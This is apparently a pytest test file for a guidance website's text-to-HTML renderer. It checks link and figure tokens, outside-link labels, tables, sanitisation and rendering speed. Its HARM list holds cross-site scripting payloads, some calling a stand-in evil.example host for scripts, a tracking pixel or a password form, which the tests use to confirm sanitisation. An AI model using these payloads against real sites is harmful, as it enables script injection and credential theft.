"""Content text to HTML: tokens, marks on links, tables, and nothing harmful whatever goes in."""

from __future__ import annotations

import re
import time
from datetime import date

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from lxml import html as lxml_html

from rulebook import figures, lifecycle
from rulebook.figures import keys as figure_keys
from rulebook.sources import Confidence
from toolkit.guidance.queries import Entry, SiteMap
from toolkit.guidance.rendering import Renderer
from toolkit.guidance.textfile import Block
from toolkit.guidance.trails import Reader

ON = date(2026, 11, 22)
STEP = lifecycle.step("gather-user-needs")
SITE = SiteMap(
    {
        (kind, key): Entry(1, kind, key, title, f"/{kind}/{key}/", "", None)
        for kind, key, title in (
            ("steps", STEP.key, "Ask & test"),
            ("guidebooks", "guide-to-collaboration", "Guide"),
            ("templates", "exit-plan", "Exit plan"),
            ("pages", "method", "Method"),
        )
    }
)


def renderer(reader=None, **options):
    return Renderer(SITE, reader or Reader(), ON, {"one": 1, "two": 2}, **options)


def shown(text, reader=None, **options):
    return str(renderer(reader, **options).html(text)).strip()


# --- tokens -----------------------------------------------------------------------------------------------

TOKENS = [
    ("{step:gather-user-needs}", '<a href="/steps/gather-user-needs/">Ask &amp; test</a>'),
    ("{step:gather-user-needs|ask}", '<a href="/steps/gather-user-needs/">ask</a>'),
    ("{step:nowhere}", "nowhere"),
    ("{step:share-insight|tell others}", "tell others"),
    (
        "{guidebook:guide-to-collaboration}",
        '<a href="/guidebooks/guide-to-collaboration/">Guide</a>',
    ),
    ("{template:exit-plan|the plan}", '<a href="/templates/exit-plan/">the plan</a>'),
    ("{page:method}", '<a href="/pages/method/">Method</a>'),
    ("{page:none|words}", "words"),
    ("{judgement}", '<span class="judgement">our judgement</span>'),
    (
        "So it is.{source:two}",
        'So it is.<sup class="source-ref"><a href="#source-2" aria-label="Source 2">2</a></sup>',
    ),
    (
        "So it is. {source:one} {source:two}",
        "So it is."
        + "".join(
            f'<sup class="source-ref"><a href="#source-{n}" aria-label="Source {n}">{n}</a></sup>'
            for n in (1, 2)
        ),
    ),
    ("So it is.{source:none}", "So it is."),
    ("{figure:nothing}", '<span class="missing">[no figure of law called nothing]</span>'),
    ("{nothing:at-all}", "{nothing:at-all}"),
    ("{figure}", '<span class="missing">[no figure of law called ]</span>'),
    ("{}", "{}"),
    (
        "{step:gather-user-needs|<b>x</b>}",
        '<a href="/steps/gather-user-needs/">&lt;b&gt;x&lt;/b&gt;</a>',
    ),
]


@pytest.mark.parametrize(("text", "expected"), TOKENS, ids=[row[0] for row in TOKENS])
def test_a_token_is_shown_as_what_it_names(text, expected):
    assert shown(text) == f"<p>{expected}</p>"


def test_a_step_keeps_the_readers_path_and_other_pages_do_not():
    reader = Reader("essential-activities", "loti")

    text = shown("{step:gather-user-needs} {template:exit-plan}", reader)

    assert "/steps/gather-user-needs/?path=essential-activities&amp;role=loti" in text
    assert 'href="/templates/exit-plan/"' in text


def test_a_figure_is_the_one_in_force_and_is_noted_for_the_page():
    rendering = renderer()

    text = str(rendering.html("Wait {figure:standstill}, not {figure:standstill|so long}."))

    figure = figures.figure_for("standstill", on=ON)
    assert f'<a href="#law-standstill">{figure.value}</a>' in text
    assert '<a href="#law-standstill">so long</a>' in text
    assert rendering.used == {"standstill": figure}


def test_a_figure_in_print_leads_to_the_list_of_all_figures():
    assert 'href="/law/#law-standstill"' in shown("{figure:standstill}", prefix="s1-")
    assert 'href="#s1-source-1"' in shown("{source:one}", prefix="s1-")


def test_a_figure_that_could_not_be_confirmed_says_so():
    doubtful = [
        figure.key
        for figure in figures.all_figures(on=ON)
        if figure.confidence is not Confidence.CONFIRMED
    ]

    for key in doubtful:
        assert "(not confirmed)" in shown(f"{{figure:{key}}}")
    assert "(not confirmed)" not in shown("{figure:standstill}")


def test_every_figure_of_the_rulebook_can_be_shown():
    for key in figure_keys():
        assert "missing" not in shown(f"{{figure:{key}}}"), key


def test_a_figure_that_is_not_in_force_on_a_day_says_so():
    rendering = Renderer(SITE, Reader(), date(1990, 1, 1))

    assert "no figure of law called standstill" in str(rendering.html("{figure:standstill}"))


def test_call_outs_have_titles_and_figures():
    passages = renderer().passages(
        (
            Block("text", "Words."),
            Block("warning", "Mind."),
            Block("warning", "Mind.", "Do not"),
            Block("figure", "So.", "standstill"),
            Block("figure", "So.", "nothing"),
        )
    )

    assert [passage.title for passage in passages] == [
        "",
        "Warning",
        "Do not",
        figures.figure_for("standstill", on=ON).label,
        "nothing",
    ]
    assert passages[3].figure is not None
    assert passages[4].figure is None


# --- links and tables ---------------------------------------------------------------------------------------

OUTSIDE = [
    "[words](https://example.org/a)",
    "[words](http://example.org/a)",
    "[words](HTTPS://example.org/a)",
    "[words](//example.org/a)",
    "<https://example.org/a>",
    '<a href="https://example.org/a">words</a>',
    '<a class="x" href="https://example.org/a">words</a>',
    "<a\nhref='https://example.org/a' title='t'>words</a>",
    '[words](https://example.org/a "a title")',
    "[**strong** words](https://example.org/a?b=1&c=2)",
]


@pytest.mark.parametrize("text", OUTSIDE)
def test_a_link_that_leads_outside_says_so(text):
    (link,) = lxml_html.fragment_fromstring(shown(text), create_parent=True).iter("a")

    assert link.get("class") == "outside"
    assert link.text_content().endswith(" (outside this site)")


@pytest.mark.parametrize(
    "text", ["[words](/steps/)", "[words](#part)", "[words](mailto:a@b.example)"]
)
def test_a_link_that_stays_here_does_not(text):
    assert "outside" not in shown(text)


def test_a_table_scrolls_in_a_region_and_its_heads_are_heads():
    text = shown("| Part | Days |\n| --- | ---: |\n| One | 2 |")

    tree = lxml_html.fragment_fromstring(text, create_parent=True)
    (region,) = tree.xpath("./div[@role='region']")
    assert (region.get("tabindex"), region.get("class")) == ("0", "scroll")
    assert region.xpath("./table/thead/tr/th/@scope") == ["col", "col"]
    assert region.xpath("./table/tbody/tr/td/text()") == ["One", "2"]


def test_markdown_is_commonmark():
    text = shown("### Head\n\n1. one\n2. *two*\n\n> quote\n\n`code` **strong**\n\n- a\n- b")

    for piece in (
        "<h3>Head</h3>",
        "<ol>",
        "<em>two</em>",
        "<blockquote>",
        "<code>code</code>",
        "<ul>",
    ):
        assert piece in text


# --- harm -------------------------------------------------------------------------------------------------

ALLOWED = {
    "p", "h2", "h3", "h4", "ul", "ol", "li", "strong", "em", "a", "code", "pre", "table", "thead",
    "tbody", "tr", "th", "td", "blockquote", "sup", "span", "br", "hr", "div",
}  # fmt: skip
HARM = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<p onclick='alert(1)' style='position:fixed'>x</p>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='vbscript:x'>x</a>",
    "[x](javascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "![x](https://evil.example/pixel.gif)",
    "<iframe src=https://evil.example></iframe>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
    "<style>body{display:none}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content=0>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><input name=password></form>",
    "<object data=x></object><embed src=x>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<!-- --><script>alert(1)</script><!-- -->",
    "<table><tr><td><table><tr><td>x</table></table>",
    "<table><script>alert(1)</script><tr><td>x",
    "</div></main></body><p>x",
    "<div class='masthead'><h1>Fake</h1></div>",
    '{step:gather-user-needs|"><script>alert(1)</script>}',
    "{figure:standstill|<img src=x onerror=alert(1)>}",
    "{page:<script>}",
    "{{ 7 * 7 }}{% raw %}",
    "\x00\x01\x1b[31m \ud83d\ude42".encode("utf-16", "surrogatepass").decode("utf-16"),
    "‮txt.exe ‏ عربى",
    "<" * 2000,
    "<p" + " a" * 5000 + ">",
]


SCHEME = re.compile(r"([a-zA-Z][a-zA-Z0-9+.-]*):")


def check_harmless(text):
    seen = "".join(letter for letter in text if letter.isprintable() or letter == "\n")
    tree = lxml_html.fragment_fromstring(seen, create_parent="section")
    for element in tree.iterdescendants():
        assert element.tag in ALLOWED, text[:500]
        for name, value in element.attrib.items():
            assert name in {
                "href",
                "class",
                "id",
                "aria-label",
                "scope",
                "start",
                "role",
                "tabindex",
            }
            if name == "href":
                scheme = SCHEME.match(re.sub(r"[\x00-\x20]", "", value))
                assert not scheme or scheme[1].lower() in {"http", "https", "mailto"}, value


def is_balanced(text):
    """Say whether every element that is opened is closed in its place."""
    from html.parser import HTMLParser

    class Reader_(HTMLParser):
        def __init__(self):
            super().__init__()
            self.open, self.is_right = [], True

        def handle_starttag(self, tag, attrs):
            if tag not in {"br", "hr"}:
                self.open.append(tag)

        def handle_endtag(self, tag):
            if not self.open or self.open.pop() != tag:
                self.is_right = False

    reader = Reader_()
    reader.feed(text)
    reader.close()
    return reader.is_right and not reader.open


@pytest.mark.parametrize("text", HARM, ids=[repr(text)[:40] for text in HARM])
def test_nothing_harmful_comes_out(text):
    clean = shown(text)

    check_harmless(clean)
    assert is_balanced(clean), clean[:500]


PIECES = st.sampled_from(
    ["<table>", "</table>", "<td>", "<a href=", "'https://a.example'", '"', ">", "</a>", "<script>",
     "javascript:", "onerror=", "[x](", ")", "{step:gather-user-needs|", "}", "\n\n", "| a | b |\n",
     "| --- | --- |\n", "<p>", "</p>", "`", "**", "&#x3c;", "\\", "<!--", "-->", "<![CDATA[", "]]>"]
)  # fmt: skip


@settings(deadline=None)
@given(st.lists(PIECES | st.text(max_size=5), max_size=12).map("".join))
def test_no_heap_of_pieces_makes_anything_harmful(text):
    clean = shown(text)

    check_harmless(clean)
    assert is_balanced(clean)


HUGE = {
    "emphasis": "*a_ " * 25_000,
    "brackets": "[" * 50_000,
    "links": "[x](" * 20_000,
    "quotes": "> " * 20_000 + "x",
    "lists": "".join("  " * (level % 50) + "- x\n" for level in range(5_000)),
    "tables": "| a | b |\n| --- | --- |\n" + "| 1 | 2 |\n" * 5_000,
    "tokens": "{step:gather-user-needs}" * 5_000,
    "open tokens": "{step:gather-user-needs|" * 5_000,
    "tags": "<b>" * 20_000,
    "autolinks": "<https://a.example/" * 5_000,
    "backticks": "".join("`" * (number % 300) + "x" for number in range(1, 3_000)),
    "entities": "&amp" * 20_000,
    "spaces before no source": "x" + " " * 20_000 + "x",
    "spaces before a source": "x" + " " * 20_000 + "{source:one}",
    "half a link": '<a href="https://a.example" ' * 2_000,
    "links of HTML": '<a href="https://a.example">x' * 5_000,
}


@pytest.mark.parametrize("text", HUGE.values(), ids=HUGE.keys())
def test_huge_text_is_rendered_in_good_time(text):
    began = time.process_time()

    clean = shown(text)

    assert time.process_time() - began < 3
    assert is_balanced(clean)
